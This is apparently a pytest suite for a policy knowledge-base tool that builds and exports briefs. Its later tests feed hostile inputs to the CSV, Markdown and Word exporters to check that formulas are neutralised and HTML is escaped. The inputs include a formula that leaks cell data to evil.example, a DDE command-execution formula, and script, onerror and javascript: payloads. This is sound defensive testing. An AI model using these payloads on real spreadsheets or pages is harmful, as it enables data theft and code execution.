"""Briefs: CRUD through the CLI and the store, exports parsed back, stale sources caught before export."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import docx
import pytest
from click.testing import CliRunner

from policykb.briefs.export import StaleBriefError, export_brief
from policykb.briefs.model import CHANGED, REMOVED, Briefs
from policykb.cli import main
from policykb.errors import BadQueryError, NotFoundError
from policykb.ingest.indexer import Indexer
from policykb.search.embedder import FakeEmbedder
from policykb.store import ChunkInfo, Store

ENV = {"POLICYKB_EMBEDDER": "fake"}
RESOLUTION = "004_6608ed9db748e12c"


def _cli(data: Path, *args: str, **kwargs):
    return CliRunner().invoke(main, ["--data", str(data), *args], env=ENV, catch_exceptions=False, **kwargs)


@pytest.fixture
def briefs(fake_index):
    store = Store(fake_index.db_path)
    yield Briefs(store)
    store.close()


def _chunk_with(store: Store, doc_id: str, phrase: str) -> ChunkInfo:
    return next(
        c for c in store.get_document(doc_id).chunks if phrase in store.get_document(doc_id).text[c.start : c.end]
    )


def test_cli_creates_fills_shows_and_exports_a_brief(fake_index, tmp_path):
    data = fake_index.data_dir
    brief_id = _cli(data, "brief", "new", "Social insurance reform", "--intro", "For the meeting.").stdout.strip()
    assert brief_id == "1"
    _cli(
        data,
        "brief",
        "add",
        brief_id,
        "--heading",
        "The resolution",
        "--query",
        "Resolution 68",
        "--top",
        "2",
        "--note",
        "Key",
    )
    listing = json.loads(_cli(data, "brief", "list", "--json").stdout)["briefs"]
    assert listing[0]["title"] == "Social insurance reform" and listing[0]["passages"] == 2
    shown = json.loads(_cli(data, "brief", "show", brief_id, "--json").stdout)
    assert [item["kind"] for item in shown["items"]] == ["heading", "passage", "passage"]
    assert all(item["status"] == "ok" and item["note"] == "Key" for item in shown["items"][1:])
    for fmt in ("docx", "md", "csv"):
        out = tmp_path / f"brief.{fmt}"
        assert _cli(data, "brief", "export", brief_id, "--format", fmt, "-o", str(out)).exit_code == 0
        assert out.stat().st_size > 0


def test_docx_export_holds_each_quote_with_a_numbered_endnote_carrying_the_citation(briefs, tmp_path):
    brief_id = briefs.create("Brief", "Intro text.")
    briefs.add_heading(brief_id, "Resolution 68")
    chunk = _chunk_with(briefs.store, RESOLUTION, "Flexible, diverse and universal")
    briefs.add_chunk(brief_id, chunk.id, note="Why it matters")
    path = tmp_path / "brief.docx"
    path.write_bytes(export_brief(briefs.get(brief_id), briefs.store, "docx"))
    document = docx.Document(str(path))
    texts = [p.text for p in document.paragraphs]
    quote = briefs.get(brief_id).items[1].quote
    quote_paragraph = next(p for p in document.paragraphs if p.style.name == "Quote")
    assert quote_paragraph.text == quote + "1"
    assert quote_paragraph.runs[-1].text == "1" and quote_paragraph.runs[-1].font.superscript
    assert "Resolution 68" in texts and "Why it matters" in texts and "Notes" in texts
    assert any(
        t.startswith("1. Government unveils action plan")
        and "§Flexible, diverse and universal social insurance system" in t
        and "13 May 2024" in t
        for t in texts
    )


def test_markdown_footnotes_resolve(briefs):
    brief_id = briefs.create("Brief")
    for phrase in ("Flexible, diverse and universal", "Improving State management capacity"):
        briefs.add_chunk(brief_id, _chunk_with(briefs.store, RESOLUTION, phrase).id)
    text = export_brief(briefs.get(brief_id), briefs.store, "md").decode()
    references = set(re.findall(r"\[\^(\d+)\](?!:)", text))
    definitions = set(re.findall(r"^\[\^(\d+)\]: .+", text, re.MULTILINE))
    assert references == definitions == {"1", "2"}
    for item in briefs.get(brief_id).items:
        assert all(line in text for line in item.quote.splitlines() if line)


def test_csv_export_has_one_row_per_passage(briefs):
    brief_id = briefs.create("Brief")
    briefs.add_heading(brief_id, "Owners")
    briefs.add_chunk(brief_id, _chunk_with(briefs.store, "000_0b935866529ff4c2", "Coordinating agency").id)
    rows = list(csv.DictReader(io.StringIO(export_brief(briefs.get(brief_id), briefs.store, "csv").decode())))
    assert len(rows) == 1 and rows[0]["heading"] == "Owners" and rows[0]["status"] == "ok"
    assert rows[0]["quote"] == "7. Coordinating agency: Ministry of Labour, Invalids and Social Affairs"


def test_brief_with_an_owner_passage_attaches_the_owners_table(briefs):
    brief_id = briefs.create("Brief")
    briefs.add_chunk(brief_id, _chunk_with(briefs.store, "000_0b935866529ff4c2", "Coordinating agency").id)
    text = export_brief(briefs.get(brief_id), briefs.store, "md").decode()
    assert (
        "## Who owns what" in text
        and "| MOLISA | World Bank, UNDP, UNICEF, DFID, GIZ | June 2010 to December 2020 |" in text
    )


def test_reorder_edit_and_remove_items(briefs):
    brief_id = briefs.create("Brief")
    first = briefs.add_heading(brief_id, "First")
    second = briefs.add_heading(brief_id, "Second")
    third = briefs.add_chunk(brief_id, _chunk_with(briefs.store, RESOLUTION, "Improving State").id)
    briefs.move(brief_id, third, -2)
    assert [item.id for item in briefs.get(brief_id).items] == [third, first, second]
    briefs.move(brief_id, third, +1)
    assert [item.id for item in briefs.get(brief_id).items] == [first, third, second]
    briefs.update_item(brief_id, third, note="A note")
    briefs.update_item(brief_id, second, heading="Renamed")
    briefs.remove_item(brief_id, first)
    items = briefs.get(brief_id).items
    assert [(i.id, i.note, i.heading) for i in items] == [(third, "A note", None), (second, "", "Renamed")]
    with pytest.raises(NotFoundError):
        briefs.remove_item(brief_id, first)
    briefs.delete(brief_id)
    with pytest.raises(NotFoundError):
        briefs.get(brief_id)


def test_pinning_outside_the_document_or_to_an_unknown_brief_is_refused(briefs):
    brief_id = briefs.create("Brief")
    with pytest.raises(BadQueryError, match="outside"):
        briefs.add_span(brief_id, RESOLUTION, 10, 10_000_000)
    with pytest.raises(NotFoundError):
        briefs.add_span(999, RESOLUTION, 0, 10)
    with pytest.raises(BadQueryError):
        briefs.create("   ")


def test_changed_or_removed_sources_are_flagged_and_block_the_export(fake_index, corpus_copy, briefs):
    brief_id = briefs.create("Brief")
    kept = briefs.add_chunk(brief_id, _chunk_with(briefs.store, "002_629d27a461f4eef1", "1.5 million jobs").id)
    gone = briefs.add_chunk(brief_id, _chunk_with(briefs.store, RESOLUTION, "Improving State").id)
    path = corpus_copy / "002_629d27a461f4eef1.txt"
    path.write_text(
        "A new opening line for the article.\n"
        + path.read_text(encoding="utf-8").replace("1.5 million", "1.6 million"),
        encoding="utf-8",
    )
    with Indexer(fake_index, FakeEmbedder(), progress=False) as indexer:
        indexer.ingest([corpus_copy])
        indexer.remove(RESOLUTION)
    statuses = {item.id: item.status for item in briefs.get(brief_id).items}
    assert statuses == {kept: CHANGED, gone: REMOVED}
    with pytest.raises(StaleBriefError, match="no longer matches its source"):
        export_brief(briefs.get(brief_id), briefs.store, "md")


def test_a_passage_that_only_moved_can_be_re_pinned(fake_index, corpus_copy, briefs):
    brief_id = briefs.create("Brief")
    item_id = briefs.add_chunk(brief_id, _chunk_with(briefs.store, "002_629d27a461f4eef1", "1.5 million jobs").id)
    path = corpus_copy / "002_629d27a461f4eef1.txt"
    path.write_text("A new opening line for the article.\n" + path.read_text(encoding="utf-8"), encoding="utf-8")
    with Indexer(fake_index, FakeEmbedder(), progress=False) as indexer:
        indexer.ingest([corpus_copy])
    item = briefs.get(brief_id).items[0]
    assert item.status == CHANGED and item.moved_to is not None
    briefs.repin(brief_id, item_id)
    item = briefs.get(brief_id).items[0]
    assert item.status == "ok"
    assert briefs.store.get_document(item.doc_id).text[item.start : item.end] == item.quote


# --- exports of hostile text ----------------------------------------------------------------------
HOSTILE = (
    "Hostile memo\n\n"
    '=HYPERLINK("http://evil.example/?leak="&A1,"Open the budget")\n\n'
    "The fund <script>alert('x')</script> pays social workers in <b>every</b> district.\n"
)


@pytest.fixture
def hostile_brief(fake_index, tmp_path, briefs) -> int:
    """A brief whose title, intro, heading, notes and quoted passages begin with formulas or carry HTML."""
    path = tmp_path / "hostile.txt"
    path.write_text(HOSTILE, encoding="utf-8")
    with Indexer(fake_index, FakeEmbedder(), progress=False) as indexer:
        assert not indexer.ingest([path]).errors
    text = briefs.store.get_document("hostile").text
    brief_id = briefs.create("=cmd|' /C calc'!A0", "@SUM(A1:A9) <img src=x onerror=alert(1)>")
    briefs.add_heading(brief_id, "+Budget lines")
    formula = text.index("=HYPERLINK")
    briefs.add_span(brief_id, "hostile", formula, text.index("\n", formula), note="-2+3 checks")
    script = text.index("The fund")
    briefs.add_span(brief_id, "hostile", script, text.index("district.") + 9, note="See <script>the memo</script>")
    return brief_id


def test_csv_export_neutralises_cells_that_would_start_a_formula(briefs, hostile_brief):
    data = export_brief(briefs.get(hostile_brief), briefs.store, "csv").decode()
    rows = list(csv.DictReader(io.StringIO(data)))
    assert [row["heading"] for row in rows] == ["'+Budget lines", "'+Budget lines"]
    assert rows[0]["quote"].startswith("'=HYPERLINK(") and rows[0]["note"] == "'-2+3 checks"
    assert rows[1]["quote"].startswith("The fund <script>")  # a spreadsheet shows markup as text
    for row in rows:
        assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values())


def test_owners_csv_neutralises_cells_that_would_start_a_formula():
    from policykb.owners.answer import OwnersResult, to_csv
    from policykb.store import AssignmentRow

    row = AssignmentRow(
        1, "doc", 0, 40, "=WEBSERVICE(A1)", "@MOLISA", ["+UNDP", "World Bank"], "-2030", "\t§ 4", None, "lead",
        "\rTitle", "The ministry leads.", False,
    )  # fmt: skip
    [shown] = list(csv.DictReader(io.StringIO(to_csv(OwnersResult(None, None, [row])))))
    assert (shown["task"], shown["lead"], shown["coordinating"]) == (
        "'=WEBSERVICE(A1)",
        "'@MOLISA",
        "'+UNDP; World Bank",
    )
    assert (shown["deadline"], shown["section"], shown["document"]) == ("'-2030", "'\t§ 4", "'\rTitle")
    assert shown["text"] == "The ministry leads." and shown["start"] == "0"


def test_markdown_export_escapes_html_from_documents_and_users(briefs, hostile_brief):
    text = export_brief(briefs.get(hostile_brief), briefs.store, "md").decode()
    assert "<script>" not in text and "<img" not in text and "<b>" not in text
    assert "> The fund &lt;script&gt;alert('x')&lt;/script&gt; pays social workers" in text
    assert "See &lt;script&gt;the memo&lt;/script&gt;" in text and "&lt;img src=x" in text
    assert "# =cmd|' /C calc'!A0" in text  # Markdown runs no formulas: the title stays as written


def test_word_export_carries_hostile_text_as_text(briefs, hostile_brief, tmp_path):
    path = tmp_path / "brief.docx"
    path.write_bytes(export_brief(briefs.get(hostile_brief), briefs.store, "docx"))
    paragraphs = [p.text for p in docx.Document(str(path)).paragraphs]
    assert "=cmd|' /C calc'!A0" in paragraphs and "See <script>the memo</script>" in paragraphs
    assert any(p.startswith("The fund <script>alert('x')</script>") for p in paragraphs)


def test_word_export_drops_control_characters_that_a_documents_text_may_carry(fake_index, briefs, tmp_path):
    path = tmp_path / "controls.txt"
    path.write_text("Budget\x0b memo\n\n" + "The fund pays social workers. " * 30 + "Odd\x1f char.\n", encoding="utf-8")
    with Indexer(fake_index, FakeEmbedder(), progress=False) as indexer:
        assert not indexer.ingest([path]).errors
    text = briefs.store.get_document("controls").text
    brief_id = briefs.create("Budget")
    briefs.add_span(brief_id, "controls", text.index("Odd"), len(text.rstrip()))
    path.with_suffix(".docx").write_bytes(export_brief(briefs.get(brief_id), briefs.store, "docx"))
    paragraphs = [p.text for p in docx.Document(str(path.with_suffix(".docx"))).paragraphs]
    assert "Odd char.1" in paragraphs and any(p.startswith("1. Budget memo") for p in paragraphs)


@pytest.mark.parametrize(
    "change, field",
    [
        (lambda b, i: b.create("t" * 201), "'title'"),
        (lambda b, i: b.create("Brief", "i" * 10_001), "'intro'"),
        (lambda b, i: b.update(i, title="t" * 201), "'title'"),
        (lambda b, i: b.add_heading(i, "h" * 201), "'heading'"),
        (lambda b, i: b.add_span(i, RESOLUTION, 0, 9, note="n" * 10_001), "'note'"),
        (lambda b, i: b.update_item(i, b.add_heading(i, "H"), heading="h" * 201), "'heading'"),
    ],
)
def test_every_stored_brief_text_is_held_to_its_limit(briefs, change, field):
    brief_id = briefs.create("Brief")
    with pytest.raises(BadQueryError, match=f"{field}.* characters long, over the limit of"):
        change(briefs, brief_id)
    assert [b["title"] for b in briefs.list()] == ["Brief"]


@pytest.mark.parametrize("text", ["bad \udced\udca0 title", "bell\x07", "form\x0cfeed"])
def test_stored_brief_text_refuses_characters_no_text_can_carry(briefs, text):
    with pytest.raises(BadQueryError, match="which text cannot carry"):
        briefs.create(text)


def test_cli_refuses_a_title_that_is_not_utf8_in_plain_words(fake_index):
    title = b"bad \xed\xa0\x80 title".decode("utf-8", "surrogateescape")  # how Python reads such an argument
    result = CliRunner().invoke(main, ["--data", str(fake_index.data_dir), "brief", "new", title], env=ENV)
    assert result.exit_code != 0 and "U+DCED, which text cannot carry" in result.output


def test_markdown_export_makes_no_link_from_a_users_text(briefs, fake_index):
    brief_id = briefs.create("Links [home](https://example.org)", "")
    briefs.add_chunk(
        brief_id, int(briefs.store.chunk_ids()[0]), note="[open the file](javascript:alert(1)) and ![x](javascript:x)"
    )
    text = export_brief(briefs.get(brief_id), briefs.store, "md").decode()
    assert "](javascript:" not in text.replace("\\](javascript:", "")  # every bracket is escaped
    assert "\\[open the file\\](javascript:alert(1))" in text and "# Links \\[home\\](https://example.org)" in text
    assert "[^1]" in text  # the export's own footnotes stay links


def test_a_backslash_in_a_users_text_cannot_undo_the_markdown_escaping(briefs, fake_index):
    brief_id = briefs.create("\\[click\\](https://evil.example/phish)", "")
    text = export_brief(briefs.get(brief_id), briefs.store, "md").decode()
    assert text.startswith("# \\\\\\[click\\\\\\](https://evil.example/phish)\n")  # \\ then \[: a backslash, a bracket
